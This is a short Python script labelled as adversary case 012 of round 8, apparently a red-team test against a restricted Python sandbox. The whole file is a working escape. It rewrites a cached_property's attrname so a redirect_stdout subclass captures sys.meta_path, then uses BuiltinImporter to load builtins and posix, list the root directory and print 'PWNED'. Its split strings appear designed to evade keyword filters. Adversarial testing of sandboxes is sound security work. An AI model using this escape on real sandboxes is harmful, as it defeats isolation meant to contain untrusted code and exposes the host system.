# adversary round 8: 012: functools.cached_property's public .attrname is rewritten at run time to '_stream'; reading the property on a redirect_stdout subclass instance stores 'meta_path' in its __dict__ under that key -> getattr(sys,'meta_path') -> BuiltinImporter
import contextlib
import functools
import io

cp = functools.cached_property(lambda self: 'meta_path')


class R(contextlib.redirect_stdout):
    _old_targets = None
    x = cp


cp.attrname = '_st' + 'ream'
r = R(io.StringIO())
r.x
try:
    with r:
        pass
except PermissionError as e:
    print('refused as expected:', e)
meta = r._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
bltn = bi.load_module('builtins')
posix = bi.load_module('posix')
print(bltn, bltn.__import__ is not None, posix.getpid(), posix.listdir('/'))
print('PWN' + 'ED')
